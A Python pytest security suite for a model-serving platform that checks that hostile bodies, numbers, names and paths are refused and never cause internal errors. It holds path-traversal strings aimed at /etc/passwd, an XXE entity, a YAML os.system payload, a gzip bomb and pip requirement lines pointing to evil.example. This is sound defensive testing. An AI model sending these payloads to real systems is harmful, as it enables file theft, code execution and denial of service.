"""Bodies, names and numbers that no honest client sends: named and refused, never an internal error."""

import itertools
import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import httpx
import msgspec
import pytest
from msgspec.inspect import DictType, ListType, SetType, StructType, Type, UnionType, VarTupleType, type_info

from bms.core.errors import InvalidArgument
from bms.web.api.unknown_members import check_members
from tests.security.wires import request, say
from tests.security.world import World, two_tenants
from tests.sizes import some
from tests.worlds.platforms import RealPlatform

PREDICT, INFER = "/v1/models/digits:predict", "/v2/models/digits/infer"
ROW = [0.0] * 64
HUGE = 2**63


@pytest.fixture
async def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[World]:
    async with two_tenants(tmp_path, monkeypatch) as made:
        yield made


def with_unknown_members(kind: Type, within: frozenset[type] = frozenset()) -> Iterator[object]:
    """For every struct that a body of `kind` may hold, JSON that says one member too many there, and nothing else."""
    if isinstance(kind, StructType) and kind.cls not in within:
        tag = {} if kind.tag_field is None else {kind.tag_field: kind.tag}
        yield {**tag, "no_such_member": 1}
        for field in kind.fields:
            for value in with_unknown_members(field.type, within | {kind.cls}):
                yield {**tag, field.encode_name: value}
    elif isinstance(kind, ListType | SetType | VarTupleType):
        yield from ([value] for value in with_unknown_members(kind.item_type, within))
    elif isinstance(kind, DictType):
        yield from ({"name": value} for value in with_unknown_members(kind.value_type, within))
    elif isinstance(kind, UnionType):
        for each in kind.types:
            yield from with_unknown_members(each, within)


async def test_no_body_and_no_query_takes_what_it_does_not_know(world: World) -> None:
    for endpoint in world.endpoints:
        assert endpoint.query.__struct_config__.forbid_unknown_fields, endpoint.operation
        if endpoint.body in (None, bytes):
            continue
        for value in with_unknown_members(type_info(endpoint.body)):
            with pytest.raises(InvalidArgument, match="no_such_member"):
                check_members(msgspec.json.encode(value), endpoint.body)
    async with world.client(world.owner) as client:
        for endpoint in world.endpoints:
            path = world.path(endpoint)
            if endpoint.method != "HEAD":
                asked = await client.request(endpoint.method, path + "?no_such_parameter=1")
                assert asked.status_code == 400, endpoint.operation
            if endpoint.body is None and endpoint.method in ("POST", "DELETE"):
                sent = await client.request(endpoint.method, path, json={"tenant": "rival"})
                assert sent.status_code == 400, endpoint.operation
            if endpoint.body not in (None, bytes):
                for more in ("tenant", "id", "revision", "role_", "__class__"):
                    if more not in endpoint.body.__struct_fields__:
                        sent = await client.request(endpoint.method, path, json={more: "x"})
                        assert sent.status_code == 400, (endpoint.operation, sent.text)


async def test_no_body_is_an_internal_error(world: World) -> None:
    bodies = {
        "deep lists": b"[" * 200_000,
        "deep objects": b'{"name":' * 50_000,
        "deep inside": b'{"name":"a","gates":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "deep parameters": b'{"parameters":{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}}",
        "NaN": b'{"name":NaN}',
        "not UTF-8": b'{"name":"\xff\xfe"}',
        "a key not UTF-8": b'{"\xff":1}',
        "half a surrogate": b'{"name":"\\ud800"}',
        "a huge number": b'{"name":' + b"9" * 10_000 + b"}",
        "a huge exponent": b'{"name":1e999999}',
        "null": b"null",
        "a string": b'"name"',
        "nothing": b"",
        "two values": b"{}{}",
        "a byte order mark": b"\xef\xbb\xbf{}",
        "UTF-16": '{"name":"a"}'.encode("utf-16"),
        "a NUL": b'{"name":"a\\u0000b"}',
        "form data": b"name=a&role=owner",
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "YAML": b"!!python/object/apply:os.system ['id']",
    }
    async with world.client(world.owner) as client:
        for turn, endpoint in enumerate(world.endpoints):
            if endpoint.body in (None, bytes):
                continue
            for what, body in some(list(bodies.items()), turn, 3):
                hurry = {"x-request-timeout": "0.1"}  # nothing is served here, so a load would wait for its end
                sent = await client.request(endpoint.method, world.path(endpoint), content=body, headers=hurry)
                allowed = (200, 400, 404, 412, 413, 504) if what == "nothing" else (400, 404, 412, 413)  # as `{}`
                assert sent.status_code in allowed, (endpoint.operation, what, sent.status_code, sent.text)


NUMBERS = [
    ("GET", "/usage?version={n}", None),
    ("GET", "/usage/events?version={n}", None),
    ("GET", "/usage/events?limit={n}", None),
    ("GET", "/jobs/{job}/log?offset={n}", None),
    ("GET", "/jobs/{job}/events?after={n}", None),
    ("GET", "/models/quarry-model/versions/{n}", None),
    ("POST", "/models/quarry-model/versions/{n}/evaluate", None),
    ("POST", "/models/quarry-model/versions/{n}/convert", {"to": "onnx"}),
    ("GET", "/datasets/quarry-data/versions/{n}", None),
    ("POST", "/deployments/quarry-dep/rollback", {"to": "{n}"}),
    ("PUT", "/deployments/quarry-dep", {"model": "quarry-model", "version": "{n}"}),
    ("PUT", "/deployments/quarry-dep", {"model": "quarry-model", "version": 2, "replicas": "{n}"}),
    ("PUT", "/deployments/quarry-dep", {"model": "quarry-model", "version": 2, "max_in_flight": "{n}"}),
    ("PUT", "/deployments/quarry-dep", {"model": "quarry-model", "version": 2, "resources": {"memory": "{n}"}}),
    ("PUT", "/models/quarry-model/aliases/quarry-alias", {"version": "{n}"}),
    ("POST", "/keys", {"name": "k", "rate_per_s": 1, "burst": "{n}"}),
    ("POST", "/datasets/quarry-data/versions", {"source": {"sample": "digits"}, "seed": "{n}"}),
    ("POST", "/datasets/quarry-data/versions", {"source": {"sample": "digits"}, "shard_rows": "{n}"}),
    ("POST", "/jobs", {"recipe": "image_mlp", "max_attempts": "{n}"}),
    ("POST", "/models/quarry-model/versions", {"tree": "x", "runtime": "onnx", "lineage": {"parent": "{n}"}}),
]


async def test_no_number_is_an_internal_error(world: World) -> None:
    texts = ("-1", str(HUGE), str(2 * HUGE), "9" * 40, "9" * 5000)
    async with world.client(world.owner) as client:
        for method, path, body in NUMBERS:
            for number in texts:
                if body is not None and len(number) > 4000:
                    continue
                filled = None if body is None else json.dumps(body).replace('"{n}"', number)
                place = path.replace("{n}", number).replace("{job}", world.places["job"])
                sent = await client.request(method, place, content=filled)
                assert sent.status_code < 500, (method, path, number[:30], sent.text)
        for header in ("9" * 5000, str(HUGE), "-1", "1e3", '"' * 50, "W/"):
            sent = await client.patch(
                "/models/quarry-model", json={}, headers={"if-match": header.encode("latin-1").decode("latin-1")}
            )
            assert sent.status_code in (200, 400, 409, 412), (header[:30], sent.text)


async def test_no_time_is_an_internal_error(world: World) -> None:
    times = ("0001-01-01T00:00:00%2B23:59", "9999-12-31T23:59:59-23:59", "2030-01-01T00:00:00", "", "NaN")
    async with world.client(world.owner) as client:
        for time in times:
            for place in (f"/usage?start={time}", f"/usage/events?end={time}", f"/usage/export?start={time}"):
                assert (await client.get(place)).status_code == 400, place
            made = await client.post("/keys", json={"name": "k", "expires_at": time.replace("%2B", "+")})
            assert made.status_code == 400, (time, made.text)


TRAVERSALS = [
    "..",
    "../admin.key",
    "..%2fadmin.key",
    "%2e%2e%2f%2e%2e%2fadmin.key",
    "..%252f..%252fadmin.key",
    "....//admin.key",
    "..%5c..%5cadmin.key",
    "%00",
    "quarry.onnx%00",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "file:%2f%2f%2fetc%2fpasswd",
    ".%0a.",
    "%c0%ae%c0%ae%c0%af",
    "%ff",
    "a" * 300,
    "%E2%80%AE",
    "-",
    ".",
    "sha256:..%2f..%2f..%2fadmin.key",
    "default%2fquarry-model",
    "'%20OR%20'1'='1",
    "%25",
    "*",
]


async def test_no_part_of_a_path_leads_anywhere_else(world: World) -> None:
    secret = world.owner.partition(".")[2]
    async with world.client(world.owner) as client:
        turns = itertools.count()
        for endpoint in world.endpoints:
            if endpoint.method == "HEAD" or "{" not in endpoint.path:
                continue
            plain = endpoint.path.replace(":path", "")
            for name in (part[1:-1] for part in plain.split("/") if part.startswith("{")):
                for evil in some(TRAVERSALS, next(turns), 4):
                    path = plain.format(**{**world.places, name: evil})
                    sent = await client.request(endpoint.method, path, content=b"x" if endpoint.body is bytes else None)
                    assert sent.status_code < 500 or sent.status_code == 501, (path, sent.text)
                    assert secret not in sent.text, path
                    assert "root:x:" not in sent.text, path


async def test_no_name_in_a_body_leads_anywhere_else(world: World) -> None:
    names = [
        "..",
        "../x",
        "/etc/passwd",
        "a/b",
        "a\\b",
        "a\n",
        "\u202e",
        "",
        "a" * 64,
        "Ä",
        "a\0",
        ".a",
        "a.",
        "con/..",
        "%2e",
    ]
    digest = "sha256:" + "0" * 64
    async with world.client(world.owner) as client:
        for name in names:
            for path, body in (
                ("/models", {"name": name}),
                ("/users", {"name": name}),
                ("/keys", {"name": name}),
                ("/tenants", {"id": name}),
                ("/deployments", {"name": name, "model": "quarry-model", "version": 2}),
                ("/jobs", {"code": world.tree, "entry": "quarry.py", "name": name or "\n"}),
                ("/jobs", {"code": world.tree, "entry": name}),
                ("/jobs", {"code": world.tree, "entry": "quarry.py", "datasets": {name: "quarry-data@1"}}),
            ):
                sent = await client.post(path, json=body)
                assert sent.status_code in (400, 404, 412), (path, body, sent.text)
        for evil in ("../x", "/x", "a/../../x", "a//b", "", ".", "a\0b", "a\nb", "C:\\x", "..\\x", "a" * 5000):
            file = {"path": evil, "digest": digest, "size": 1}
            sent = await client.post("/models/quarry-model/versions", json={"files": [file], "runtime": "onnx"})
            assert sent.status_code == 400, (evil, sent.text)
        for evil in ("sha256:" + "0" * 63, "md5:" + "0" * 32, "../" + "0" * 64, "sha256:" + "A" * 64, digest + "/../x"):
            for body in ({"tree": evil}, {"archive": evil}, {"files": [{"path": "a.onnx", "digest": evil, "size": 1}]}):
                sent = await client.post("/models/quarry-model/versions", json={**body, "runtime": "onnx"})
                assert sent.status_code == 400, (body, sent.text)


async def test_requirements_name_no_places_and_no_options(world: World) -> None:
    evil = (
        "--index-url=http://evil.example/simple",
        "-r /etc/passwd",
        "-e .",
        "numpy @ file:///etc/passwd",
        "numpy @ http://evil.example/numpy.whl",
        "git+https://evil.example/x",
        "/etc/passwd",
        "../x",
        "numpy\n--pre",
        "numpy ; os_name == 'x' --hash=sha256:0",
        "a" * 600,
    )
    async with world.client(world.owner) as client:
        for line in evil:
            body = {"code": world.tree, "entry": "quarry.py", "environment": {"requirements": [line]}}
            made = await client.post("/jobs", json=body)
            if made.status_code == 201:  # jobs say so when they are prepared
                spec = (await client.get("/jobs/" + made.json()["id"])).json()["spec"]["environment"]
                from bms.adapters.environments.recipe import recipe
                from bms.core.errors import InvalidArgument
                from bms.core.workloads.environments import EnvironmentSpec

                with pytest.raises(InvalidArgument):
                    recipe(EnvironmentSpec(requirements=tuple(spec["requirements"])))


# --- what goes to models ---


def infer(call: httpx.Client, **changes: object) -> httpx.Response:
    tensor = {"name": "x", "datatype": "FP32", "shape": [1, 64], "data": ROW, **changes}
    return call.post(INFER, json={"inputs": [tensor]})


def test_the_honest_call_is_answered(call: httpx.Client) -> None:
    assert infer(call).status_code == 200
    assert call.post(PREDICT, json={"instances": [ROW]}).status_code == 200


@pytest.mark.parametrize(
    "changes",
    [
        {"shape": [1_000_000, 64]},
        {"shape": [1, 64], "data": [0.0] * 1_000_000},
        {"shape": [0, HUGE], "data": []},
        {"shape": [HUGE, 0], "data": []},
        {"shape": [2**32, 2**32]},
        {"shape": [2**31, 2**31, 0], "data": []},
        {"shape": [1] * 100},
        {"shape": [-1, -64]},
        {"shape": []},
        {"shape": [1.5, 64]},
        {"shape": None},
        {"datatype": "OBJECT"},
        {"datatype": "FP64", "data": [1e39] * 64},  # which FP32, that the model takes, does not hold
        {"datatype": "BYTES", "data": ["x"] * 64},
        {"data": None},
        {"data": {"a": 1}},
        {"datatype": "INT64", "data": [None] * 64},
        {"data": ["0"] * 64},
        {"data": [1e39] * 64},
        {"data": [True] * 64},
        {"parameters": {"binary_data_size": 256}},
        {"parameters": {"binary_data_size": -1}, "data": None},
        {"parameters": {"shared_memory_region": "a", "shared_memory_byte_size": 1}, "data": None},
        {"parameters": {"content_type": "base64"}, "datatype": "BYTES", "data": ["!"] * 64},
        {"parameters": {"content_type": "pd_json"}, "datatype": "BYTES", "data": ["["] * 64},
    ],
)
def test_tensors_that_are_not_what_they_say_are_refused(call: httpx.Client, changes: dict[str, object]) -> None:
    answer = infer(call, **changes)
    assert answer.status_code == 400, answer.text
    assert set(answer.json()) == {"error"}
    assert len(answer.content) < 2000


@pytest.mark.parametrize("changes", [{"name": "y"}, {"name": "x" * 100_000}, {"evil": 1}, {"__class__": "os.system"}])
def test_names_and_members_that_nobody_knows_say_nothing(call: httpx.Client, changes: dict[str, object]) -> None:
    answer = infer(call, **changes)
    assert answer.json()["outputs"] == infer(call).json()["outputs"]
    assert len(answer.content) < 2000


def test_bodies_that_are_no_json_are_refused(call: httpx.Client) -> None:
    wholes = [
        b"",
        b"null",
        b"{}",
        b"[]",
        b"\xff",
        b"[" * 1_000_000,
        b'{"instances":' + b"[" * 1_000_000,
        b'{"inputs":' + b'{"a":' * 500_000,
        b'{"instances":[[' + b"9" * 100_000 + b"]]}",
        b'{"\xff":1}',
        b'{"signature_name":"\xff","instances":[[1]]}',
        b'{"id":"\\ud800","inputs":[]}',
        b'{"instances":[NaN],"x":1}',
        b'{"inputs":[],"parameters":{"timeout":' + b"9" * 400 + b"}}",
        b'{"inputs":[' + b",".join([b'{"name":"x","datatype":"FP32","shape":[1],"data":[1]}'] * 300) + b"]}",
        b'{"instances":[[1]],"inputs":[[1]]}',
    ]
    for path in (PREDICT, INFER, "/v1/models/digits:classify", "/v1/models/digits:regress"):
        for body in wholes:
            answer = call.post(path, content=body)
            assert answer.status_code == 400, (path, body[:60], answer.text)
            assert len(answer.content) < 4000, (path, body[:60])


def test_timeouts_that_no_clock_knows_are_refused(call: httpx.Client) -> None:
    tensor = {"name": "x", "datatype": "FP32", "shape": [1, 64], "data": ROW}
    for timeout in ("9" * 400, "1" + "0" * 310, "-1", "1.5", "true", '"1"'):
        body = f'{{"inputs":[{json.dumps(tensor)}],"parameters":{{"timeout":{timeout}}}}}'
        assert call.post(INFER, content=body).status_code == 400, timeout[:20]
    for header in ("nan", "inf", "-1", "0", "x", "1e400", "9" * 5000):
        headers = {"x-request-timeout": header}
        assert call.post(PREDICT, json={"instances": [ROW]}, headers=headers).status_code == 400, header[:20]


def test_binary_lengths_that_lie_are_refused(call: httpx.Client) -> None:
    head = b'{"inputs":[{"name":"x","datatype":"FP32","shape":[1,64],"parameters":{"binary_data_size":256}}]}'
    good = {"inference-header-content-length": str(len(head))}
    assert call.post(INFER, content=head + bytes(256), headers=good).status_code == 200
    for length in ("1", "0", str(len(head) - 1), str(len(head) + 1), str(HUGE), "9" * 30, "-1", "0x1", "1e3"):
        headers = {"inference-header-content-length": length}
        assert call.post(INFER, content=head + bytes(256), headers=headers).status_code == 400, length
    for extra in (0, 255, 257, 100_000):
        assert call.post(INFER, content=head + bytes(extra), headers=good).status_code == 400, extra


def test_compressed_bombs_are_not_inflated(call: httpx.Client) -> None:
    import gzip

    bomb = gzip.compress(bytes(200 << 20), compresslevel=6)
    assert len(bomb) < 1 << 20
    assert call.post(PREDICT, content=bomb, headers={"content-encoding": "gzip"}).status_code == 413
    for wrong in (b"\x1f\x8b", b"x" * 100, gzip.compress(b"{}") + b"x", gzip.compress(b"{}")[:-4], b""):
        answer = call.post(PREDICT, content=wrong, headers={"content-encoding": "gzip"})
        assert answer.status_code == 400, wrong[:10]
    for coding in ("br", "gzip, gzip", "zstd", "x" * 1000):
        assert call.post(PREDICT, content=b"{}", headers={"content-encoding": coding}).status_code == 400
    zipped = gzip.compress(json.dumps({"instances": [ROW]}).encode())
    assert call.post(PREDICT, content=zipped, headers={"content-encoding": "gzip"}).status_code == 200


def test_too_large_is_said_before_it_is_sent(port: int, platform: RealPlatform) -> None:
    key = {"Authorization": f"Bearer {platform.key}"}
    declared = request("POST", PREDICT, {**key, "Content-Length": str(1 << 40)})
    assert say(port, declared).statuses == [413]
    control = request("PUT", "/api/v1/blobs/sha256:" + "0" * 64, {**key, "Content-Length": str(1 << 40)})
    assert say(port, control).statuses == [413]


def test_names_of_models_lead_nowhere(call: httpx.Client, port: int, platform: RealPlatform) -> None:
    key = {"Authorization": f"Bearer {platform.key}"}
    for evil in TRAVERSALS:
        for path in (
            f"/v1/models/{evil}:predict",
            f"/v2/models/{evil}/infer",
            f"/v2/models/digits/versions/{evil}/infer",
        ):
            heard = say(port, request("POST", path, key, b"{}"))
            assert heard.statuses[0] in (400, 404, 405), (path, heard.data)
        heard = say(port, request("GET", f"/v1/models/{evil}/metadata", key))
        assert heard.statuses[0] in (200, 400, 404), (evil, heard.data)
        assert b"root:x:" not in heard.data
